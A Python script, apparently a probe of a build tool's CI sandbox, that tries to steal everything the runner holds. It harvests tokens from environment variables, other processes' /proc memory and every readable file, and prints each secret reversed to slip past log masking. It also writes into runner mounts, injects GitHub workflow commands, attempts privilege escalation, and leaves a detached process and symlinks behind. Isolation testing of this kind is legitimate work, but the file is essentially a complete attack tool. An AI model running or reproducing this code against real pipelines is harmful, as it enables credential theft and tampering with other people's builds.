"""Tries to get at what belongs to the runner, and says how each attempt went.

A line GOT is a success. Whatever looks like a secret is printed as it is, and
backwards, since a runner may mask it; loot.txt gets the same. The first
argument says from where it runs.
"""

import base64
import os
import pathlib
import re
import signal
import socket
import subprocess
import sys

where = sys.argv[1] if len(sys.argv) > 1 else "build"
here = pathlib.Path.cwd()
loot = open(here / "loot.txt", "a", encoding="utf-8", errors="replace")
GIT = base64.b64encode(b"x-access-token:")[:-1]
SECRET = re.compile(rb"canary-[\w-]+|" + GIT + rb"[\w+/=]+|eyJ[\w-]{8,}\.[\w.-]+")


def say(text: str) -> None:
    print(text, flush=True)
    loot.write(text + "\n")
    loot.flush()


def search(name: str, data: bytes) -> None:
    for match in set(SECRET.findall(data)):
        text = match.decode()
        say(f"GOT {name}: {text} {text[::-1]}")


def attempt(name: str, act) -> None:
    """Carry out one attempt; that it raises nothing is a success."""
    try:
        act()
    except Exception as error:
        say(f"REFUSED {name}: {type(error).__name__}")
    else:
        say(f"GOT {name}")


say(f"BEGIN {where} as {os.getuid()}:{os.getgid()} {os.getgroups()}")

# The environment: ours, and that of whatever runs.
for name, value in sorted(os.environ.items()):
    if re.match("ACTIONS_|GITHUB_TOKEN|INPUT_|RUNNER_TEMP|DEPLOY_|DOCKER_|GITHUB_(OUTPUT|ENV|PATH|STATE|STEP_SUMMARY)", name):
        say(f"GOT variable {name}={value}")
    search(f"variable {name}", os.fsencode(value))
for process in pathlib.Path("/proc").glob("[0-9]*"):
    foreign = process.stat().st_uid != os.getuid()
    for part in ("environ", "mem", "maps", "fd", "cwd", "root"):
        path = process / part
        try:
            if part in ("fd", "cwd", "root"):
                os.listdir(path)
            else:
                with open(path, "rb") as f:
                    data = f.read(1 << 20) if part != "mem" else b""
                search(str(path), data)
        except (OSError, ValueError):
            continue
        if foreign:
            say(f"GOT {path} of another user")
    try:
        search(f"{process}/cmdline", (process / "cmdline").read_bytes())
    except OSError:
        pass

# Every file that can be read, of every mount.
read = 0
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev", "/usr/lib", "/usr/share", "/usr/include")]
    for name in files:
        path = os.path.join(top, name)
        try:
            if os.path.realpath(path) in (str(here / "loot.txt"), os.path.realpath(__file__)) or not os.path.isfile(path):
                continue
            with open(path, "rb") as f:
                data = f.read(8 << 20)
        except OSError:
            continue
        read += 1
        search(path, data)
        if path.endswith(("/.git/config", "/outputcmd.txt", "/event.json")) and not path.startswith(str(here)):
            say(f"GOT {path}")
say(f"READ {read} files")

# The runner's directories are the mounts.
mounts = [line.split()[4] for line in open("/proc/self/mountinfo")]
mounts = [m for m in mounts if not re.match("/(proc|sys|dev|etc)(/|$)", m) and m != "/"]
say(f"MOUNTS {len(mounts)}")
for i, mount in enumerate(mounts):  # by number: no package may ship their names
    if mount.endswith("docker.sock"):
        attempt("docker's socket", lambda: socket.socket(socket.AF_UNIX).connect(mount))
        continue
    for name in (".git", "tools", "workflow"):
        attempt(f"list mount {i}, {name}", lambda: os.listdir(os.path.join(mount, name)))
    attempt(f"write to mount {i}", lambda: open(os.path.join(mount, "evil"), "w").close())
    for name in ("outputcmd.txt", "envs.txt", "pathcmd.txt", "statecmd.txt", "SUMMARY.md"):
        attempt(f"append to mount {i}, {name}", lambda: open(os.path.join(mount, "workflow", name), "a").write("evil=1\n"))

# More rights, other processes.
attempt("become root", lambda: os.setuid(0))
attempt("change the root", lambda: os.chroot("/"))
attempt("kill process 1", lambda: os.kill(1, signal.SIGTERM))
attempt("write to pinpack", lambda: open("/usr/local/bin/pinpack", "ab").close())
attempt("mount", lambda: subprocess.run(["mount", "-t", "tmpfs", "none", str(here)], check=True, capture_output=True))
attempt("namespace", lambda: subprocess.run(["unshare", "--mount", "--user", "--map-root-user", "cat", "/proc/1/environ"], check=True, capture_output=True))

# The runner's commands.
for command in (
    "::set-output name=version::evil", "##[set-output name=version;]evil", "::set-env name=EVIL::1", "::add-path::/evil",
    "::add-mask::dist", "::save-state name=evil::1", "::stop-commands::evil", "::endgroup::",
):
    print(command, flush=True)

# What stays behind.
if os.fork() == 0:
    os.setsid()
    for f in (0, 1, 2):
        os.close(f)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    import time

    for _ in range(600):
        time.sleep(0.1)
        for mount in mounts:
            try:
                open(os.path.join(mount, "late"), "w").close()
            except OSError:
                pass
    os._exit(0)
for name, target in (("dist", "/etc"), ("linked", "/etc/passwd")):
    try:
        os.symlink(target, here / name)
    except OSError:
        pass
say(f"END {where}")
